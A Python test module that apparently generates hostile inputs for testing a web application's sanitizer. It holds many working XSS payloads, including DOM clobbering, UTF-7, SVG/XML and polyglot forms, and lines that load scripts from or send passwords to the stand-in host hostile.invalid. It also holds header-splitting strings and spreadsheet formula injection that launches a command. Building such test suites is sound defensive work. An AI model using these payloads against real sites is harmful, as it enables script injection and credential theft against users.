"""Strings in other forms: names, whole documents, XML, odd letters, several lines, many meanings, great length."""

from itertools import product

from tests.hostile import writing
from tests.hostile.short import IMG, LOAD, SCRIPT, SHORT
from tests.hostile.vocabulary import CALLS


def names(chance):
    """Elements by whose id or name a script of the page would find something else (DOM clobbering)."""
    found = "attributes body children cookie currentScript defaultView domain documentElement firstChild forms getElementById"
    found += (
        " head htmx implementation innerHTML location main nodeName onload parentNode querySelector self src submit"
    )
    found += (
        " action method csrfmiddlewaretoken thread comments say top window xss config __proto__ constructor toString"
    )
    for name in found.split():
        yield f'<a id="{name}" href="javascript:xss(NUM)">n</a>'
        yield f'<form name="{name}"><input name="{name}" value="javascript:xss(NUM)"></form>'
        yield chance.choice(
            [
                f"<img name={name} src=x>NUM",
                f"<iframe name={name} src=x></iframe>NUM",
                f"<a id={name}><a id={name} name=x>NUM",
            ]
        )


def documents(chance):
    """What belongs into the head of a page, or makes another page in it."""
    yield from (
        "<base href=//hostile.invalid/NUM/>",
        "<base target=NUM>",
        "<meta http-equiv=refresh content='0;//hostile.invalid/NUM'>",
        "<meta http-equiv=Set-Cookie content='sessionid=NUM'>",
        "<meta http-equiv=Content-Security-Policy content='script-src *'>NUM",
        "<meta http-equiv=Content-Type content='text/html;charset=utf-7'>+ADw-script+AD4-xss(NUM)+ADw-/script+AD4-",
        "<meta charset=utf-7>+ADw-script+AD4-xss(NUM)+ADw-/script+AD4-",
        "<meta name=referrer content=unsafe-url><img src=//hostile.invalid/NUM>",
        "<link rel=prefetch href=//hostile.invalid/NUM>",
        "<link rel=preload as=script href=//hostile.invalid/NUM>",
        "<link rel=dns-prefetch href=//hostile.invalid/NUM>",
        "<link rel=canonical href=//hostile.invalid/NUM>",
        "<link rel=manifest href=//hostile.invalid/NUM>",
        "<html onload=xss(NUM)>",
        "<body onpageshow=xss(NUM)>",
        "<frameset onload=xss(NUM)>",
        "<title>NUM</title><script>xss(NUM)</script>",
        "<form action=//hostile.invalid/NUM><input name=password type=password>",
        "<form id=x></form><button form=x formaction=javascript:xss(NUM) autofocus>n",
        "<button form=say formaction=//hostile.invalid/NUM>n",
        "<input type=hidden name=csrfmiddlewaretoken value=NUM>",
        "<input type=hidden oncontentvisibilityautostatechange=xss(NUM) style=content-visibility:auto>",
        "<img src='//hostile.invalid/NUM?",
        "<textarea name=x>NUM",
        "<plaintext>NUM",
        "<noscript><p title='</noscript><img src=x onerror=xss(NUM)>'>",
        "<template shadowrootmode=open><script>xss(NUM)</script></template>",
        "<div><template shadowrootmode=closed><slot></slot><img src=x onerror=xss(NUM)></template></div>",
        "<xml id=x><a>&lt;img src=x onerror=xss(NUM)&gt;</a></xml><span datasrc=#x datafld=a dataformatas=html>",
        '<script type=importmap>{"imports":{"x":"//hostile.invalid/NUM"}}</script>',
        '<script type=speculationrules>{"prerender":[{"urls":["//hostile.invalid/NUM"]}]}</script>',
        "<script type=module>import '//hostile.invalid/NUM'</script>",
        "<script async src=//hostile.invalid/NUM></script>",
        "<script type=application/ld+json>{}</script><script>xss(NUM)</script>",
        "<svg><script>xss&#40NUM)</script>",
        "<svg><script>/*&midast;/xss(NUM)/*&midast;*/</script>",
        "<svg><script xlink:href=data:,xss(NUM) />",
        "<svg><use href='data:image/svg+xml,<svg id=x xmlns=http://www.w3.org/2000/svg><script>xss(NUM)</script></svg>#x'/>",
        "<svg><foreignObject><iframe srcdoc='<script>parent.xss(NUM)</script>'>",
        "<object type=text/html data='data:text/html,<script>parent.xss(NUM)</script>'>",
        "<object><param name=src value=javascript:xss(NUM)></object>",
        "<embed type=image/svg+xml src='data:image/svg+xml,<svg xmlns=http://www.w3.org/2000/svg onload=parent.xss(NUM)>'>",
        "<video><source onerror=xss(NUM)></video>",
        "<picture><source srcset=x><img src=x onerror=xss(NUM)></picture>",
        "<p popover id=x onbeforetoggle=xss(NUM)>n</p><button popovertarget=x>n</button>",
        "<button command=--x commandfor=x>n</button><dialog id=x oncommand=xss(NUM)>",
        "<marquee loop=1 width=0 onfinish=xss(NUM)>n</marquee>",
        "<keygen autofocus onfocus=xss(NUM)>",
        "<style>@keyframes x{}</style><b style=animation-name:x onanimationstart=xss(NUM)>",
    )
    inner = [
        IMG,
        SCRIPT,
        LOAD.replace("xss", "parent.xss"),
        "<a href=javascript:parent.xss(NUM)>n</a>",
        "<base href=//hostile.invalid/>",
    ]
    wraps = ['<iframe srcdoc="%s"></iframe>', "<iframe srcdoc='%s'>", '<iframe sandbox="allow-scripts" srcdoc="%s">']
    for wrap, content, written in product(wraps, inner, [str, writing.named, writing.decimal]):
        yield wrap.replace("%s", written(content.replace("(NUM)", "`NUM`")).replace(writing.decimal("NUM"), "NUM"))


def xml(chance):
    """For feeds and sitemaps that are opened as documents."""
    xhtml = "xmlns='http://www.w3.org/1999/xhtml'"
    calls = [
        f"<script {xhtml}>xss(NUM)</script>",
        "<x:script xmlns:x='http://www.w3.org/1999/xhtml'>xss(NUM)</x:script>",
    ]
    calls += [
        f"<img {xhtml} src='x' onerror='xss(NUM)'/>",
        "<svg xmlns='http://www.w3.org/2000/svg' onload='xss(NUM)'/>",
    ]
    calls += [f"<iframe {xhtml} src='javascript:parent.xss(NUM)'/>", f"<a {xhtml} href='javascript:xss(NUM)'>n</a>"]
    before = [
        "",
        "]]>",
        "</title>",
        "</name></author>",
        "</content></entry>",
        "</summary>",
        "--><!--",
        "]]]]><![CDATA[>",
        "'/>",
        '"/>',
    ]
    before += [
        "<?xml-stylesheet type='text/xsl' href='data:text/xml,NUM'?>",
        "<!DOCTYPE x [<!ENTITY x 'xss(NUM)'>]>",
        "</loc></url>",
    ]
    yield from (start + call for start, call in product(before, calls))
    yield "<xi:include xmlns:xi='http://www.w3.org/2001/XInclude' href='//hostile.invalid/NUM'/>"
    yield "<xsl:script xmlns:xsl='http://www.w3.org/1999/XSL/Transform'>xss(NUM)</xsl:script>"


def written_otherwise(chance):
    for write, call in product(writing.ENCODED, SHORT):
        yield write(call.replace("NUM", "\ue000")).replace(write("\ue000"), "NUM").replace("\ue000", "NUM")


def odd_letters(chance):
    for write in writing.ODD:
        for call in chance.sample(SHORT, 6):
            yield write(call.replace("NUM", "\ue000")).replace("\ue000", "NUM")


def lines(chance):
    """Headers, logs, tables and letters are lines."""
    ends = ["\r\n", "\n", "\r", "%0d%0a", "%0a", "\u2028", "\x0b", "\x85", "\\r\\n", "&#13;&#10;", "嘊嘍"]
    headers = [
        "Set-Cookie: x=NUM",
        "Location: javascript:xss(NUM)",
        f"Content-Type: text/html\r\n\r\n{SCRIPT}",
        "Bcc: NUM@hostile.invalid",
    ]
    headers += [
        "Content-Length: 0\r\n\r\nHTTP/1.1 200 OK\r\n\r\n<script>xss(NUM)</script>",
        "Refresh: 0;url=javascript:xss(NUM)",
    ]
    yield from (f"x{end}{header}" for end, header in product(ends, headers))
    yield from (
        f"{start}xss(NUM)"
        for start in ["=", "+", "-", "@", "\t=", "=cmd|' /C calc'!A0+", '=HYPERLINK("//hostile.invalid")+']
    )


def polyglots(chance):
    """One string for many places at once."""
    closers = [
        "</title>",
        "</textarea>",
        "</style>",
        "</script>",
        "-->",
        "]]>",
        "</noscript>",
        "</template>",
        "</xmp>",
        "</select>",
    ]
    scripts = ["'/*", '"/*', "`/*", "*/", "//", "\\'", '\\"', "%0a", "${", "{{", "}}", "--!>"]
    for _ in range(150):
        head = chance.choice(["javascript:", "jaVasCript:", "", "data:text/html,", "#", "[n](", "> "])
        middle = "".join(chance.sample(scripts, 4) + chance.sample(closers, 5))
        tail = chance.choice(
            ['"><svg/onload=%s//>', "'><img src=x onerror=%s>", "<iframe/onload=%s//", "<sVg/oNloAd=%s//>\\x3e"]
        )
        yield head + middle + tail.replace("%s", chance.choice(CALLS[:5]))


def long_ones(chance):
    """Longer than fields take, or nested deeper than anybody writes."""
    for size in (60, 80, 100, 200, 400, 500, 1000, 3900):
        yield "A" * (size - 40) + IMG
        yield "<p " + "x" * (size - 40) + "><script>xss(NUM)</script>"
        yield IMG + " " * size + "n"
        yield f"[{'n' * size}](javascript:xss(NUM))"
    for opening in (
        "<div>",
        "<b><i>",
        "<svg>",
        "<math><mtext>",
        "<table>",
        "> ",
        "[",
        "![",
        "* ",
        "<!--",
        "**",
        "`",
        "<a href=x>",
        "&lt;",
    ):
        yield opening * 60 + IMG
        yield opening * 400 + IMG
